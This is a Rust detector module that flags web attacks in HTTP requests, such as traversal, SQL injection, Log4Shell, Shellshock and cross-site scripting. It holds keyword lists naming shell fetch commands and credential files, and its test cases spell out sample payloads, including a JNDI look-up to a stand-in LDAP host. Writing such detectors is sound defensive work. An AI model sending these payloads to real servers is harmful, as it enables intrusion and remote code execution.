//! Attacks in web requests: traversal, injection, look-up expressions.

use crate::{About, Detector, Draft, Findings, Kind, Site, Watch, named::name_of};
use model::{Detail, Direction, Observation, OperationClass, Severity};

pub static WEB_ATTACK: Detector = Detector {
    about: About {
        id: "web-attack",
        title: "Attack in a web request",
        engine: model::Engine::Malware,
        why: "Panels, controllers and servers offer web pages; a request can carry an attack that \
              reads files, changes a database or runs a program.",
        techniques: &["T1190", "T0819", "T0866", "T1210"],
        false_positives: "Vulnerability scanners; pages whose parameters look like code.",
        runbook: "See how the server answered: a page or a file means that the attack worked.\n\
                  Find out whether the source is the site's scanner.\n\
                  If not, block the source, examine the server and install its updates.",
        sees: &[Kind::Operation],
    },
    watch: || Box::new(WebAttack),
    #[cfg(test)]
    cases,
};

struct WebAttack;

struct Attack {
    name: &'static str,
    severity: Severity,
    says: &'static str,
}

static TRAVERSAL: Attack = Attack {
    name: "path traversal",
    severity: Severity::High,
    says: "the path climbs out of the server's folder",
};
static INJECTION: Attack = Attack {
    name: "SQL injection",
    severity: Severity::High,
    says: "a parameter holds database code",
};
static LOOKUP: Attack = Attack {
    name: "Log4Shell (CVE-2021-44228)",
    severity: Severity::High,
    says: "a look-up expression makes a vulnerable logger fetch and run a program",
};
static SHELL: Attack = Attack {
    name: "Shellshock (CVE-2014-6271)",
    severity: Severity::High,
    says: "a header holds a function of a shell with commands behind it",
};
static CODE: Attack = Attack {
    name: "code injection",
    severity: Severity::High,
    says: "a parameter holds an expression or a program that frameworks or the server would run",
};
static SCRIPT: Attack = Attack {
    name: "cross-site scripting",
    severity: Severity::Medium,
    says: "a parameter holds a script that would run in the browser of who looks at the page",
};
static COMMAND: Attack = Attack {
    name: "command injection",
    severity: Severity::High,
    says: "a parameter holds commands of a shell",
};

impl Watch for WebAttack {
    fn wants(&self, protocol: &str, _: OperationClass) -> bool {
        protocol == "http"
    }

    fn see(&mut self, o: &Observation, _: &Site<'_>, out: &mut Findings) {
        let Detail::Operation(operation) = &o.detail else { return };
        if o.protocol != "http" || operation.direction != Direction::Request {
            return;
        }
        let Some(attack) = judge(name_of(operation)) else { return };
        let key = (attack.name, o.from.address(), o.to.address());
        let raised = out.raise(&WEB_ATTACK.about, key, o, || {
            let title = format!("{{0}} attacks {{1}}: {}", attack.name);
            let text: String = name_of(operation).chars().take(200).collect();
            Draft::between(o, attack.severity, title)
                .because(format!("In the request {text:?} {}.", attack.says))
        });
        debug_assert!(raised.is_none_or(|open| open.count() > 0));
    }
}

fn judge(text: &str) -> Option<&'static Attack> {
    // Nearly all requests hold none of these.
    if !text.contains(['%', '\'', '$', '.', ';', '|', '`']) {
        return None;
    }
    let text = decoded(text);
    let has = |words: &[&str]| words.iter().any(|w| text.contains(w));
    if has(&["${jndi:", "${lower:", "${upper:", "${::-", "${env:"]) {
        return Some(&LOOKUP);
    }
    if text.starts_with("() {") && text.contains(';') {
        return Some(&SHELL);
    }
    let climbs = text.matches("../").count() + text.matches("..\\").count();
    if climbs >= 3 || (climbs >= 1 && has(&["/etc/passwd", "/bin/sh", "win.ini", "boot.ini"])) {
        return Some(&TRAVERSAL);
    }
    let quoted = text.contains('\'') || text.contains("%27");
    let sql = has(&["union select", "union all select", "information_schema", "xp_cmdshell"]);
    let always =
        quoted && has(&["' or ", "'or'", "' and 1", "or 1=1", "' or '1'", "sleep(", "benchmark("]);
    if sql || always {
        return Some(&INJECTION);
    }
    if has(&[";wget ", ";curl ", "|/bin/", "`wget", "$(wget", "&&wget ", ";cat /etc", "/bin/sh -c"])
    {
        return Some(&COMMAND);
    }
    let code = [
        "%{(#",
        "${(#",
        "#_memberaccess",
        "@java.lang.runtime",
        "class.module.classloader",
        "auto_prepend_file",
        "eval(base64_decode",
        "call_user_func_array",
    ];
    if has(&code) {
        return Some(&CODE);
    }
    let parameters = text.split_once('?').map_or("", |(_, parameters)| parameters);
    let runs = ["<script", "</script", "javascript:", "<svg/onload", "<svg onload"];
    let handler = parameters.contains('<') && parameters.contains("onerror=");
    if handler || runs.iter().any(|word| parameters.contains(word)) {
        return Some(&SCRIPT);
    }
    None
}

/// Lower case, with percent signs and plus signs taken back; twice, for they are hidden twice.
fn decoded(text: &str) -> String {
    let once = percent(text.as_bytes());
    let twice = percent(&once);
    String::from_utf8_lossy(&twice).to_lowercase()
}

fn percent(text: &[u8]) -> Vec<u8> {
    let hex = |b: u8| char::from(b).to_digit(16).map(|d| d as u8);
    let mut out = Vec::with_capacity(text.len());
    let mut rest = text;
    while let Some((&byte, after)) = rest.split_first() {
        rest = after;
        let pair = match (byte, after) {
            (b'%', [high, low, ..]) => hex(*high).zip(hex(*low)),
            _ => None,
        };
        match pair {
            Some((high, low)) => {
                out.push(high << 4 | low);
                rest = &after[2..];
            }
            None if byte == b'+' => out.push(b' '),
            None => out.push(byte),
        }
    }
    out
}

#[cfg(test)]
fn cases() -> Vec<crate::testing::Case> {
    use crate::testing::{Case, requested};
    let one = |text| vec![requested(0, text)];
    vec![
        Case::fires("traversal, hidden twice", one("/cgi-bin/.%%32%65/.%2e/%2e%2e/%2e%2e/bin/sh")),
        Case::fires("injection", one("/item?id=1%27+union+select+user+from+users%23")),
        Case::fires("a look-up", one("authorization: Bearer ${jndi:ldap://192.0.2.1/a}")),
        Case::fires("a shell's function", one("() { :;}; /bin/ping -c 1 192.0.2.1")),
        Case::fires("an expression", one("/a.action?x=%25%7B%28%23a%3D%40java.lang.Runtime%29%7D")),
        Case::fires("a script", one("/search?name=%3Cscript%3Ealert%281%29%3C%2Fscript%3E")),
        Case::silent("a page about scripts", one("/doc/%3Cscript%3E.html?lang=javascript")),
        Case::silent("a page", one("/index.html?page=2&name=O%27Brien")),
        Case::silent("a relative link", one("/styles/../main.css")),
    ]
}
